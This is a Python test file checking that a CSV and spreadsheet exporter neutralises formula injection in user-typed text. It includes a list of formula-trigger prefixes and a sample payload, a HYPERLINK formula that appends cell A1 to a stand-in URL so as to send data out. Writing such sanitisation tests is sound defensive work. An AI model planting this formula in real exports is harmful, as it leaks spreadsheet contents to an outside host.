"""Exports: what a stranger typed stays text on the desk that opens the file."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from upstander.lib.export import Cell, csv_lines, safe_cell, safe_row

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n@", " =", "\u200b=", "\ufeff=", "＝", "－", "|", "%"]


@pytest.mark.parametrize("start", STARTS)
def test_text_that_could_run_is_text(start: str) -> None:
    cell = safe_cell(f'{start}HYPERLINK("http://upstander.invalid?"&A1,"Open")')
    assert isinstance(cell, str)
    assert cell.startswith("'")


def test_numbers_dates_and_plain_words_stay_as_they_are() -> None:
    row: list[Cell] = ["Amina Yusuf", "O'Neill", -3, 2.5, True, date(2026, 11, 20), None, ""]
    assert safe_row(row) == row


@given(st.text())
def test_whatever_is_typed_a_spreadsheet_keeps_it_as_text(typed: str) -> None:
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    sheet.append(safe_row([typed]))
    assert sheet["A1"].data_type in ("s", "n")  # "n" for an empty cell
    assert sheet["A1"].data_type != "f"


@given(st.lists(st.text().filter(lambda text: "\x00" not in text), min_size=1, max_size=4))
def test_a_csv_has_one_cell_for_each_value_and_none_begins_a_formula(typed: list[str]) -> None:
    content = b"".join(csv_lines(["a"] * len(typed), [typed])).decode("utf-8-sig")
    _, row = csv.reader(io.StringIO(content, newline=""))
    assert len(row) == len(typed)
    assert not any(cell.lstrip()[:1] in ("=", "+", "-", "@") for cell in row if cell)


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    cell = safe_cell("a" * 40_000)
    assert isinstance(cell, str)
    assert len(cell) == 32_767
    assert cell.endswith("…")
